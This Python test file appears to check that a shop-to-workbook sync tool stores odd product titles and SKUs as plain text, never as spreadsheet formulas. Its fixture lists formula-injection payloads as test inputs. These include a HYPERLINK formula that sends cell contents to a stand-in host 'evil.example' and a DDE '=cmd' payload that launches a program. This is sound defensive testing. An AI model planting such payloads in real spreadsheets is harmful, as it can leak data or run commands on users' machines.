"""Whatever a shop calls its products: text in the workbook, never a formula, and no reason to stop (S7, DESIGN 4)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.input.seller import Seller, seller

TITLES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+49 30 1234567",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "command": "=cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "long": "Very long " * 4000,
    "emoji": "Mug \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1ee\U0001f1e9 ☕",
    "right to left": "\u202eקפה\u202c كوب أزرق",
    "controls": "Mug\x00\x07\x0b\x1f\x7f\u0085\ufffe end",
    "lone half of a pair": "Mug \ud83d end",
    "markup": "<b>Mug</b> & ]]> <!-- x --> &#x3D;1 _x0041_",
    "lines": "one\r\ntwo\nthree\rfour",
    "blank": "   ",
    "nothing": "",
}
SKUS = ["=1+1", "+1", "-2", "@x", "00123", "1E5", "2026-11-22", "TRUE", "=HYPERLINK(A1)", "قهوة-1", "☕", "A" * 300]


@pytest.fixture
def odd(tmp_path: Path) -> Iterator[Seller]:
    """A shop of such titles without SKUs, and of such SKUs; the sheet knows one item."""
    with seller(tmp_path / "here") as one:
        for title in TITLES.values():
            one.shop.add_simple("", title, 3)
        for sku in SKUS:
            one.shop.add_simple(sku, f"Item {sku}"[:90], 3)
        one.sells("MUG", 5)
        one.writes([{"SKU": "MUG", "Title": "Mug", "Stocked": 5}])
        yield one


def no_formula_of_ours(one: Seller) -> int:
    """Texts in the agent's tabs and Item Master; asserts that no formula begins as the shop's texts do."""
    book, texts = openpyxl.load_workbook(one.workbook), 0
    for name in ("Imports", "Listings", "Attention", "Item Master", "Stock Levels"):
        for row in book[name].iter_rows():
            for cell in row:
                texts += isinstance(cell.value, str)
                if cell.data_type == "f":
                    assert "evil" not in str(cell.value) and "cmd" not in str(cell.value), cell.coordinate
                    assert str(cell.value) not in SKUS, cell.coordinate
    return texts


def test_odd_texts_of_a_shop_stand_in_imports_as_texts(odd: Seller) -> None:
    assert odd.run("sync").code == 1  # the first plan waits for a yes
    rows = odd.person.look("Imports")
    assert len(rows) == len(TITLES) + len(SKUS)
    shown = {str(row["Title"]) for row in rows}
    for name in ("formula", "plus", "minus", "at", "command", "emoji"):
        assert TITLES[name] in shown, name
    assert "<b>Mug</b> & ]]> <!-- x --> =1 _x0041_" in shown
    assert all(len(title) <= 500 for title in shown)
    assert not any(ord(c) < 32 and c not in "\n\t\r" for title in shown for c in title)
    assert no_formula_of_ours(odd) > 50
    checked = odd.run("check")
    assert checked.code == 0, checked.text


def test_items_of_odd_names_are_taken_from_the_shop_as_texts(odd: Seller) -> None:
    told = odd.run("init", "--from", "my-shop", "--yes")
    assert told.code == 0, told.text
    rows = {str(row["SKU"]): row for row in odd.person.look("Item Master")}
    assert {"=1+1", "+1", "-2", "@x", "00123", "1E5", "2026-11-22", "TRUE", "=HYPERLINK(A1)"} <= set(rows)
    assert no_formula_of_ours(odd)
    assert odd.run("init", "--from", "my-shop", "--yes").lines("Nothing to add")
    synced = odd.run("sync")
    linked = {str(row["SKU"]) for row in odd.person.look("Listings")}
    assert {"=1+1", "00123", "☕", "قهوة-1"} <= linked, synced.text
